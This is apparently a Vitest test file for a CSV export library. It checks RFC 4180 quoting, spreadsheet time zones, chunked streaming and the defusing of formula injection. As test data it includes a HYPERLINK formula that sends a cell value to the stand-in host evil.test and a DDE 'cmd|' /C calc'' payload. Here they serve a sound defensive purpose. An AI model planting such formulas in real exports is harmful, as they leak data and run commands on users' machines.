import { describe, expect, test } from 'vitest';
import { csvChunks, csvField, spreadsheetTime, toCsv, zonedTime } from '../../packages/site-forms/src/lib/csv.ts';

describe('CSV as RFC 4180 writes it', () => {
  test.each([
    ['plain text', 'Ada', 'Ada'],
    ['a comma', 'Lovelace, Ada', '"Lovelace, Ada"'],
    ['quotes', 'She said "hi"', '"She said ""hi"""'],
    ['a line feed', 'one\ntwo', '"one\ntwo"'],
    ['a carriage return', 'one\r\ntwo', '"one\r\ntwo"'],
    ['only a quote', '"', '""""'],
    ['an empty string', '', ''],
    ['null', null, ''],
    ['a number', 42, '42'],
    ['spaces kept as they are', '  padded ', '  padded '],
    ['a list (spam reasons)', ['proof-missing', 'too-fast'], 'proof-missing too-fast'],
    ['an empty list', [], ''],
    ['a list whose first item a spreadsheet would run', ['=1+1', 'x'], `"'=1+1 x"`],
  ])('a field with %s', (_, value, expected) => {
    expect(csvField(value)).toBe(expected);
  });
});

describe('text a spreadsheet would run as a formula is neutralised (OWASP CSV injection)', () => {
  test.each([
    ['a HYPERLINK formula', '=HYPERLINK("http://evil.test/?x="&C2,"Click")', `"'=HYPERLINK(""http://evil.test/?x=""&C2,""Click"")"`],
    ['an equals sign', '=1+2', `"'=1+2"`],
    ['a plus sign', '+1+2', `"'+1+2"`],
    ['a minus sign', "-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`],
    ['an at sign', '@SUM(1,2)', `"'@SUM(1,2)"`],
    ['a tab', '\t=1+2', `"'\t=1+2"`],
    ['a carriage return', '\r=1+2', `"'\r=1+2"`],
    ['an address starting with a plus', '+tag@example.com', `"'+tag@example.com"`],
    ['a lone equals sign', '=', `"'="`],
    ['a phone number with dashes (a sum to a spreadsheet)', '+1-555-1234', `"'+1-555-1234"`],
    ['a phone number with an area code in brackets', '+43 (0)664 1234567', `"'+43 (0)664 1234567"`],
    ['a minus and a name', '-x', `"'-x"`],
  ])('a field starting with %s: a single quote in front, quoted', (_, value, expected) => {
    expect(csvField(value)).toBe(expected);
  });

  test.each([
    ['an equals sign inside', 'a=b', 'a=b'],
    ['a minus sign inside', 'Anne-Marie', 'Anne-Marie'],
    ['an at sign inside', 'ada@example.com', 'ada@example.com'],
    ['a line feed first', '\n=1', '"\n=1"'],
    ['a space first', ' =1', ' =1'],
    ['a single quote first', "'=1", "'=1"],
    ['a negative number (a number, not text)', -5, '-5'],
    ['a phone number with its country code', '+43 664 1234567', '+43 664 1234567'],
    ['a phone number without spaces', '+436641234567', '+436641234567'],
    ['a negative number written as text', '-12.5', '-12.5'],
  ])('a field with %s is left as RFC 4180 writes it', (_, value, expected) => {
    expect(csvField(value)).toBe(expected);
  });

  test('an export row with a formula in the name keeps every other field as it was', () => {
    expect(toCsv(['id', 'name', 'email'], [{ id: 7, name: '=HYPERLINK("http://evil.test","x")', email: 'eve@example.com' }])).toBe(
      `id,name,email\r\n7,"'=HYPERLINK(""http://evil.test"",""x"")",eve@example.com\r\n`,
    );
  });
});

describe('a CSV document', () => {
  test('a header row, then one record per row, every line ended by CRLF', () => {
    expect(
      toCsv(
        ['id', 'name', 'message'],
        [
          { id: 1, name: 'A, B', message: 'line 1\nline "2"' },
          { id: 2, name: 'C', message: null },
        ],
      ),
    ).toBe('id,name,message\r\n1,"A, B","line 1\nline ""2"""\r\n2,C,\r\n');
  });
});

describe('CSV for a spreadsheet', () => {
  test.each([
    ['an ISO time with milliseconds', '2026-11-24T14:57:13.123Z', '2026-11-24 14:57:13'],
    ['an ISO time without', '2026-11-24T14:57:13Z', '2026-11-24 14:57:13'],
    ['no time', null, null],
    ['text that is not a time', 'soon', 'soon'],
    ['a time with an offset (not ours)', '2026-11-24T14:57:13+01:00', '2026-11-24T14:57:13+01:00'],
  ])('%s', (_, value, written) => {
    expect(spreadsheetTime(value)).toBe(written);
  });

  test('only the date columns are rewritten, and the byte-order mark comes first when asked', () => {
    const rows = [{ at: '2026-11-24T14:57:13.000Z', note: '2026-11-24T14:57:13.000Z' }];
    expect(toCsv(['at', 'note'], rows, { dateColumns: ['at'], byteOrderMark: true })).toBe('\uFEFFat,note\r\n2026-11-24 14:57:13,2026-11-24T14:57:13.000Z\r\n');
  });
});

describe('CSV in the separator and time zone of a spreadsheet', () => {
  test('a semicolon separates the fields, and a field holding one is quoted', () => {
    expect(toCsv(['a', 'b'], [{ a: 'x;y', b: 'p,q' }], { separator: ';' })).toBe('a;b\r\n"x;y";p,q\r\n');
  });

  test.each([
    ['UTC', '2026-11-24T14:57:13.123Z', '2026-11-24 14:57:13 +00:00'],
    ['Europe/Vienna', '2026-11-24T14:57:13.123Z', '2026-11-24 15:57:13 +01:00'],
    ['Europe/Vienna', '2026-07-01T22:30:00.000Z', '2026-07-02 00:30:00 +02:00'],
    ['America/St_Johns', '2026-01-01T00:00:00Z', '2025-12-31 20:30:00 -03:30'],
    ['Asia/Kolkata', '2026-11-24T20:00:00Z', '2026-11-25 01:30:00 +05:30'],
  ])('a time in %s is written with its offset', (zone, value, written) => {
    expect(zonedTime(value, zone)).toBe(written);
  });

  test('what is not a time stays as it is', () => {
    expect(zonedTime(null, 'Europe/Vienna')).toBe(null);
    expect(zonedTime('soon', 'Europe/Vienna')).toBe('soon');
  });

  test('the date columns are written in the time zone asked', () => {
    expect(toCsv(['at'], [{ at: '2026-11-24T14:57:13.000Z' }], { dateColumns: ['at'], timeZone: 'Europe/Berlin', separator: ';' })).toBe(
      'at\r\n2026-11-24 15:57:13 +01:00\r\n',
    );
  });
});

describe('streamed CSV', () => {
  async function chunksOf(batches: Array<Array<{ a: string }>>): Promise<number[]> {
    async function* from() {
      yield* batches;
    }
    const sizes: number[] = [];
    for await (const chunk of csvChunks(['a'], from())) sizes.push(chunk.length);
    return sizes;
  }

  // Each line is 32,766 characters and CRLF: two of them fill a chunk of 64 KiB exactly.
  const half = { a: 'x'.repeat(32_766) };

  test('a chunk is let go of as soon as it holds 64 KiB, and no empty chunk ends the stream', async () => {
    await expect(chunksOf([[half, half, half], [half]])).resolves.toEqual([3, 65_536, 65_536]);
  });

  test('the lines short of a full chunk come last, in one chunk', async () => {
    await expect(chunksOf([[half], [{ a: 'y' }]])).resolves.toEqual([3, 32_771]);
  });

  test('an empty field is written empty, whether null or undefined', () => {
    expect(toCsv(['a', 'b'], [{ a: undefined, b: null }])).toBe('a,b\r\n,\r\n');
  });
});
